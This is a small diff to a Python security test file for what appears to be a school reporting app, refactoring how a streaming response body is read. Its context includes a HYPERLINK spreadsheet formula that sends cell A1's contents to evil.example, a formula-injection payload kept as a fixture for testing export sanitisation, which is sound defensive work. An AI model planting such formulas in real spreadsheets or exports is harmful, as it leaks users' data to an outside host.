@@ -31,6 +31,7 @@ from tests.e2e.security.access_matrix import Outcome, Route, signed_in_client
 from tests.e2e.security.test_access_matrix import ALL_ROUTES
 from tests.lessons.reporting.test_exports import _play_a_class
 from tests.support.factories import make_students
+from tests.support.responses import body_of
 
 ROOT = Path(__file__).resolve().parents[2]
 HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Voir le bulletin")'
@@ -95,7 +96,7 @@ def _hostile_class(world: ClassWorld) -> list[str]:
 
 def _body(response: Any) -> bytes:
     if getattr(response, "streaming", False):
-        return b"".join(response.streaming_content)
+        return body_of(response)
     return bytes(response.content)
 
 
